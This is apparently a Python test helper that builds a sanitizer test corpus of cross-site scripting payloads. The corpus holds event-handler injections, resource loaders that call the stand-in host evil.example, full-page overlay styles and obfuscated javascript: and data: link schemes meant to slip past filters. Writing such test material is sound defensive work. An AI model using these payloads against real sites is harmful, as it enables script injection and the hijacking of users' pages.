"""The hostile texts of data/payloads.txt, one a line under a `=== group` heading.

⏎ stands for a line break and \\uXXXX for a character that an editor does not show. Most groups are
written by hand; `python tests/payloads.py` writes those again that are systematic combinations.
"""

from __future__ import annotations

import re
from itertools import product
from pathlib import Path

FILE = Path(__file__).parent / "data" / "payloads.txt"
HOST = "//evil.example/x"
COVER = "position:fixed;inset:0;z-index:99999;background:red"

TAGS = (
    "img src=x", "svg", "body", "video src=x", "audio src=x", "input autofocus", "details open",
    "iframe", "object data=x", "marquee", "select autofocus", "a tabindex=1 autofocus",
)  # fmt: skip
EVENTS = ("onload", "onerror", "onfocus", "ontoggle", "onstart", "onpointerenter")
LOADERS = (
    "<img src={u}>", "<img srcset='{u} 2x'>", "<script src={u}></script>", "<iframe src={u}>",
    "<link rel=stylesheet href={u}>", "<link rel=prefetch href={u}>", "<object data={u}>",
    "<embed src={u}>", "<video poster={u}>", "<audio src={u} autoplay>", "<source src={u}>",
    "<track src={u} default>", "<input type=image src={u}>", "<body background={u}>",
    "<table background={u}>", "<base href={u}>", "<meta http-equiv=refresh content='0;url={u}'>",
    "<form action={u}><button>Enviar</button></form>", "<svg><image href={u}></svg>",
    "<svg><use href={u}#a></use></svg>", "<svg><feImage href={u}></svg>",
    "<style>@import '{u}';</style>", "<style>body{{background:url({u})}}</style>",
    "<div style='background:url({u})'>x</div>", "<applet code={u}>", "<portal src={u}>",
    "<math href={u}>x</math>", "<a ping={u} href=#>x</a>",
    "<script type=module>import '{u}'</script>",
)  # fmt: skip
COVERS = (
    '<div style="{c}">tampa</div>', '<p style="{c}">tampa', '<dialog open style="{c}">x</dialog>',
    "<style>.x{{{c}}}</style><i class=x>x</i>", '<table style="{c}"><tr><td>x</table>',
    '<textarea style="{c}"></textarea>', '<svg style="{c}" width=9999 height=9999></svg>',
    '<math style="{c}"><mi>x</mi></math>', '<span class="fixed inset-0 z-50" style="{c}">x</span>',
    '<div popover=manual style="{c}">x</div>', '<a href=# style="{c}">x</a>',
    '<button style="{c}">Enviar</button>', '<font size=9999 style="{c}">x</font>',
)  # fmt: skip
SCHEMES = (
    "javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\\u0009script:alert(1)",
    "java⏎script:alert(1)", "\\u0001javascript:alert(1)", "javascript&colon;alert(1)",
    "&#106;avascript:alert(1)", "&#x6A&#x61vascript:alert(1)", "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>", "blob:null/alert(1)", "view-source:x",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg onload=alert(1)>",
)  # fmt: skip
LINKS = ("[clique]({s})", "![figura]({s})", '<a href="{s}">x</a>', "<{s}>", "[r]: {s}⏎⏎[r]")


def combinations() -> dict[str, list[str]]:
    """The lines of the groups that are made, not written."""
    return {
        "handlers": [f"<{tag} {event}=window.ran=1>" for tag, event in product(TAGS, EVENTS)],
        "requests to elsewhere": [
            loader.format(u=f"{scheme}{HOST}")
            for loader, scheme in product(LOADERS, ("https:", ""))
        ],
        "overlays": [each.format(c=COVER) for each in COVERS],
        "schemes": [link.format(s=scheme) for link, scheme in product(LINKS, SCHEMES)],
    }


def groups() -> dict[str, list[str]]:
    """The file's lines by group."""
    found: dict[str, list[str]] = {}
    lines: list[str] = []
    for line in FILE.read_text(encoding="utf-8").splitlines():
        if line.startswith("=== "):
            lines = found.setdefault(line.removeprefix("=== "), [])
        elif line:
            lines.append(line)
    return found


def read() -> list[str]:
    """The payloads as they are sent."""
    return [_decoded(line) for lines in groups().values() for line in lines]


def _decoded(line: str) -> str:
    return re.sub(r"\\u([0-9a-f]{4})", lambda code: chr(int(code[1], 16)), line.replace("⏎", "\n"))


def write() -> None:
    parts = [
        "\n".join([f"=== {name}", *lines, ""])
        for name, lines in (groups() | combinations()).items()
    ]
    FILE.write_text("\n".join(parts), encoding="utf-8")


if __name__ == "__main__":
    write()
